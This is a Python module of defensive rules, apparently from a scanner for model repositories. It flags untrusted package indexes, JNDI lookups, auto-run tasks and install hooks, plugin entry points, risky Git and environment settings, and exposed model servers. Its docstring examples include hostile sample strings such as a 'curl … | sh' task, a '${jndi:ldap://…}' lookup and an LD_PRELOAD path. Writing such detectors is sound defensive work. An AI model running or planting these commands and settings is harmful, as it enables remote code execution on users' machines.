"""Rules on settings of tools: where packages come from, what is run or obeyed without being asked, who is let in."""

from __future__ import annotations

import re

from weighbridge.core.facts import FileReference, Oddity, Reference, Setting
from weighbridge.core.findings import Severity
from weighbridge.core.records import TYPE_CHECKING
from weighbridge.rules.base import Hit, RuleContext, rule

if TYPE_CHECKING:
    from collections.abc import Iterator

_HIGH, _MEDIUM, _LOW, _INFO = Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO
_INDEXES = re.compile(
    r"https://(?:pypi\.org|files\.pythonhosted\.org|download\.pytorch\.org|data\.pyg\.org|pypi\.nvidia\.com|pypi\.ngc\.nvidia\.com|"
    r"storage\.googleapis\.com/(?:jax-releases|libtpu-releases|libtpu-wheels)|download\.openmmlab\.com|wheels\.vllm\.ai|"
    r"pypi\.anaconda\.org|registry\.npmjs\.org|abetlen\.github\.io/llama-cpp-python)(?:/.*)?"
)
"""Indexes of packages that are published by the makers of what they hold; looked at on 2026-11-29."""


@rule(
    "config/package-source",
    Severity.MEDIUM,
    on=FileReference,
    refs=("CWE-829", "CWE-494", "ATLAS AML.T0010.001"),
    since="0.2",
)
def package_source(found: FileReference, ctx: RuleContext) -> Iterator[Hit]:
    """A package does not come from the index of packages.

    What it finds: Addresses and repositories that packages are installed from (low if they are pinned to a commit or a
        hash), other indexes (low for well-known ones), hosts that are trusted without a certificate, addresses that
        are not encrypted (high), folders and other lists (low).
    Why it matters: Installing a package runs its code. Nobody but whoever owns the address decides what it is, and a
        second index lets anybody who registers the name of an internal package replace it.
    What to do: Install from one index, with versions and hashes.
    Fires on:
        FileReference("requirement", "git+https://github.com/someone/thing", "line 1")
        FileReference("requirement", "http://example.org/thing.whl", "line 1")
        FileReference("package-index", "--extra-index-url https://example.org/simple", "line 1")
        FileReference("package-index", "--trusted-host example.org", "line 1")
        FileReference("requirement-file", "./thing.whl", "line 1")
        FileReference("requirement-list", "https://example.org/more.txt", "line 1")
    Stays silent on:
        FileReference("requirement-list", "base.txt", "line 1")
        FileReference("weight-shard", "model.bin", "weight_map.w")
    """
    del ctx
    if found.road == "requirement":
        plain = re.match(r"(?:\w+\+)?(?:http|git|ftp|svn)://", found.target) is not None
        pinned = re.search(r"@[0-9a-f]{40}\b|#(?:.*&)?sha(?:256|384|512)=", found.target) is not None
        yield Hit(f"{found.key} is installed from {found.target}", _HIGH if plain else _LOW if pinned else None)
    elif found.road == "package-index":
        option, _, target = found.target.partition(" ")
        known = _INDEXES.fullmatch(target.strip("\"'")) is not None
        yield Hit(
            f"{found.key}: {found.target}",
            _HIGH if target.startswith("http://") and option != "--proxy" else _LOW if known else None,
        )
    elif found.road == "requirement-file":
        yield Hit(f"{found.key} is installed from {found.target}", _LOW)
    elif found.road == "requirement-list" and "://" in found.target:
        yield Hit(f"{found.key}: the list {found.target}", _HIGH)


@rule("config/requirement-line", Severity.LOW, on=Oddity, refs=("CWE-20",), since="0.2")
def requirement_line(oddity: Oddity, ctx: RuleContext) -> Iterator[Hit]:
    """A list of packages has a line that names none.

    What it finds: Lines that are neither a package nor an option.
    Why it matters: The list cannot be installed as it is, or not by the program that is meant.
    What to do: Ask for a list that can be installed.
    Fires on:
        Oddity("requirement-line", "line 1 is no requirement: 'a b c'")
    Stays silent on:
        Oddity("config-lookup", "a is '${jndi:ldap://example.org}'")
    """
    del ctx
    if oddity.kind == "requirement-line":
        yield Hit(oddity.detail)


@rule("config/lookup", Severity.HIGH, on=Oddity, refs=("CVE-2021-44228", "CWE-917"), since="0.2")
def lookup(oddity: Oddity, ctx: RuleContext) -> Iterator[Hit]:
    """A setting makes a Java program look something up that runs code.

    What it finds: Expressions such as `${jndi:…}` and `${script:…}`.
    Why it matters: Servers of models that are written in Java have loaded code from the address in it.
    What to do: Do not use the file.
    Fires on:
        Oddity("config-lookup", "a is '${jndi:ldap://example.org}'")
    Stays silent on:
        Oddity("requirement-line", "line 1 is no requirement: 'a b c'")
    """
    del ctx
    if oddity.kind == "config-lookup":
        yield Hit(oddity.detail)


@rule("config/tool-command", Severity.MEDIUM, on=Reference, refs=("CWE-829", "CWE-78"), since="0.2")
def tool_command(found: Reference, ctx: RuleContext) -> Iterator[Hit]:
    """Settings make a tool run a command.

    What it finds: Tasks that run when a folder is opened, commands that an assistant for code or a package manager
        runs by itself, kernels with a command line of their own (high); tasks and commands of containers that somebody
        starts, paths to programs in settings of an editor (medium).
    Why it matters: Opening the folder of the model is enough to run the command.
    What to do: Open the folder without trusting it, and remove the file.
    Fires on:
        Reference("opens", "curl https://example.org | sh", "tasks.0")
        Reference("installs", "node x.js", "scripts.postinstall")
        Reference("assistant", "sh x.sh", "mcpServers.x")
        Reference("kernel", "/tmp/x -f {connection_file}", "argv")
        Reference("task", "make", "tasks.0")
        Reference("container", "pip install .", "postCreateCommand")
        Reference("setting", "./x/python", "python.defaultInterpreterPath")
    Stays silent on:
        Reference("kernel", "python -m ipykernel_launcher -f {connection_file}", "argv")
        Reference("target", "torch.nn.Linear", "_target_")
    """
    del ctx
    if found.road == "kernel":
        if not re.fullmatch(
            r"(?:/usr/(?:local/)?bin/)?python[\d.]*(?: -\w+)* -m (?:ipykernel(?:_launcher)?|xpython)(?: .*)?",
            found.name,
        ):
            yield Hit(f"{found.key} is {found.name!r}", _HIGH)
    elif found.road in ("opens", "installs", "assistant"):
        yield Hit(f"{found.key} runs {found.name!r}", _HIGH)
    elif found.road in ("task", "container", "setting"):
        yield Hit(f"{found.key} runs {found.name!r}")


@rule("config/entry-point", Severity.LOW, on=Reference, refs=("CWE-829",), since="0.2")
def entry_point(found: Reference, ctx: RuleContext) -> Iterator[Hit]:
    """Installing the folder registers or runs code of it.

    What it finds: Commands and plug-ins that are registered (low; medium for plug-ins of pytest, IPython, Jupyter and
        such, which are loaded by themselves), and a build program of the project's own (medium).
    Why it matters: A command may take the name of another one; a plug-in runs in every run of its program; the build
        program runs on installation.
    What to do: Do not install the folder of a model. Read what is named if it must be.
    Fires on:
        Reference("entry-point", "thing.cli:main", "project.scripts.thing")
        Reference("entry-point", "thing.plugin", "project.entry-points.pytest11.thing")
        Reference("build-backend", "mine", "build-system.build-backend")
    Stays silent on:
        Reference("build-backend", "setuptools.build_meta", "build-system.build-backend")
        Reference("target", "torch.nn.Linear", "_target_")
    """
    del ctx
    if found.road == "entry-point":
        loads = any(group in found.key for group in _PLUGINS)
        yield Hit(f"{found.key} is {found.name}", _MEDIUM if loads else None)
    elif found.road == "build-backend" and found.name.partition(":")[0] not in _BACKENDS:
        yield Hit(f"{found.key} is {found.name}", _MEDIUM)


_PLUGINS = (
    "pytest11",
    "ipython",
    "jupyter",
    "distutils.commands",
    "setuptools.",
    "keyring",
    "mlflow.",
    "torch.backends",
    "transformers",
    "vllm.",
)
_BACKENDS = frozenset(
    """setuptools.build_meta setuptools.build_meta:__legacy__ hatchling.build flit_core.buildapi flit.buildapi
    poetry.core.masonry.api poetry_core.masonry.api pdm.backend pdm.pep517.api maturin scikit_build_core.build
    mesonpy uv_build jupyter_packaging.build_api whey""".split()  # noqa: SIM905 -- words read better than a list of them
)


@rule("config/risky-setting", Severity.MEDIUM, on=Setting, refs=("CWE-426", "CWE-829"), since="0.2")
def risky_setting(found: Setting, ctx: RuleContext) -> Iterator[Hit]:
    """A setting decides which code other programs run, or lets others in.

    What it finds: Variables such as `LD_PRELOAD`, `PYTHONPATH` or `HF_ENDPOINT` (medium); commands in settings of Git
        (high); servers of models that answer on all addresses without a token, load any model or install packages
        (medium).
    Why it matters: Whoever takes the settings over takes over what they run, and whom they trust.
    What to do: Remove the setting, or set it where the model is served.
    Fires on:
        Setting("environment:LD_PRELOAD", "/tmp/x.so", 0)
        Setting("git:core.fsmonitor", "./x.sh", 0)
        Setting("git:submodule.x.update", "!x", 0)
        Setting("server:disable_token_authorization", "true", 0)
        Setting("server:management_address", "http://0.0.0.0:8081", 0)
    Stays silent on:
        Setting("model_type", "bert", 0)
        Setting("git:submodule.x.update", "checkout", 0)
        Setting("server:load_models", "all", 0)
    """
    del ctx
    kind, colon, key = found.key.partition(":")
    value = found.value
    if not colon:
        return
    if kind == "environment":
        yield Hit(f"{key} is {value!r}")
    elif kind == "git":
        if value.lower() not in (
            "true",
            "false",
            "checkout",
            "rebase",
            "merge",
            "none",
            "lfs",
            "less",
            "vim",
            "nano",
            "cat",
            "store",
            "cache",
            "manager",
            "manager-core",
            "osxkeychain",
            "user",
            "never",
        ):
            harmless = re.fullmatch(r"git-lfs (?:smudge|clean|filter-process)(?: -- %f)?", value)
            if not harmless:
                yield Hit(f"{key} is {value!r}", _HIGH)
    elif kind == "server" and _opens(key, value.strip().lower()):
        yield Hit(f"{key} is {value!r}")


def _opens(key: str, value: str) -> bool:
    if key in ("disable_token_authorization", "install_py_dep_per_model", "enable_envvars_config"):
        return value == "true"
    if key == "allowed_urls":
        return ".*" in value.split(",") or "http" in value
    return key == "management_address" and ("0.0.0.0" in value or "[::]" in value)  # noqa: S104 -- compared, not bound


@rule("code/site-path", Severity.MEDIUM, on=FileReference, refs=("CWE-427",), since="0.2")
def site_path(found: FileReference, ctx: RuleContext) -> Iterator[Hit]:
    """A path file puts a folder on Python's path of modules.

    What it finds: Lines of a `.pth` file in text.
    Why it matters: Modules in the folder are found by every program, perhaps before those that are meant.
    What to do: Remove the file. A model needs none.
    Fires on:
        FileReference("site-path", "../lib", "line 1")
    Stays silent on:
        FileReference("weight-shard", "model.bin", "weight_map.w")
    """
    del ctx
    if found.road == "site-path":
        yield Hit(f"{found.key} is {found.target!r}")


RULES = (
    package_source,
    requirement_line,
    lookup,
    tool_command,
    entry_point,
    risky_setting,
    site_path,
)
